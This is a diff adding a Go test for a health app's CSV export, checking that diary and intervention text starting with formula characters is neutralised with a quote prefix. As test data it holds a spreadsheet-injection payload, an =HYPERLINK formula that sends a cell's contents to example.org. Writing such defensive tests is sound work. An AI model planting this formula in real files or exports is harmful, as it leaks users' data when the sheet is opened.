@@ -324,3 +324,57 @@ func ExampleWriteCSV() {
 	// person_id,assessment_id,recorded_at,test_type,assistive_device,placement,metric,value,algorithm_version,source
 	// 5,1,2024-03-01T09:00:00.000000Z,t25fw,none,lower_back,t25fw_time_s,5.9,legwork-gait/1,legwork
 }
+
+// TestCSVFormulaText: free text people type (diary notes, their own words,
+// fall circumstances, intervention names and notes) that starts with =, +,
+// -, @, a tab or a carriage return is read by Excel and LibreOffice as a
+// formula ("-2 after the stairs" shows as #NAME?, "=HYPERLINK(…)" runs).
+// OWASP's "CSV Injection" guidance: prefix such a cell with a single
+// quote, which spreadsheets show as text. Numbers and codes stay as they
+// are (a negative metric value must still read as a number).
+func TestCSVFormulaText(t *testing.T) {
+	e := &legwork.DiaryEntry{ID: 5, PersonID: 42, At: time.Date(2024, 3, 3, 8, 0, 0, 0, time.UTC), Severity: intp(3),
+		SensationOther: "+pins and needles", Notes: `=HYPERLINK("http://example.org/?"&A2,"x")`,
+		Fall: &legwork.Fall{Kind: "fall", Circumstances: "-2 steps from the top"}}
+	iv := &legwork.Intervention{ID: 3, PersonID: 42, Kind: legwork.InterventionOther, Name: "@home stretching",
+		StartDate: time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC), Notes: "\tindented"}
+	a := &legwork.Assessment{ID: 9, PersonID: 42, TestType: legwork.TestWalk2Min, RecordedAt: time.Date(2024, 3, 3, 9, 0, 0, 0, time.UTC),
+		Metrics: map[string]float64{"cadence_decline_pct": -4.5}}
+
+	var buf bytes.Buffer
+	if _, err := WriteCSV(&buf, Diary(seqOf([]*legwork.DiaryEntry{e}), nil)); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	row := map[string]string{}
+	for i, c := range recs[0] {
+		row[c] = recs[1][i]
+	}
+	for col, want := range map[string]string{"sensation_other": "'+pins and needles", "notes": `'=HYPERLINK("http://example.org/?"&A2,"x")`,
+		"fall_circumstances": "'-2 steps from the top", "severity": "3", "fall_kind": "fall"} {
+		if row[col] != want {
+			t.Errorf("diary %s = %q, want %q", col, row[col], want)
+		}
+	}
+
+	buf.Reset()
+	if _, err := WriteCSV(&buf, Interventions(seqOf([]*legwork.Intervention{iv}), nil)); err != nil {
+		t.Fatal(err)
+	}
+	recs, _ = csv.NewReader(&buf).ReadAll()
+	if recs[1][3] != "'@home stretching" || recs[1][7] != "'\tindented" {
+		t.Errorf("intervention name %q, notes %q", recs[1][3], recs[1][7])
+	}
+
+	buf.Reset()
+	if _, err := WriteCSV(&buf, Metrics(seqOf([]*legwork.Assessment{a}), nil)); err != nil {
+		t.Fatal(err)
+	}
+	recs, _ = csv.NewReader(&buf).ReadAll()
+	if recs[1][7] != "-4.5" {
+		t.Errorf("value %q, want -4.5 (a number, not text)", recs[1][7])
+	}
+}
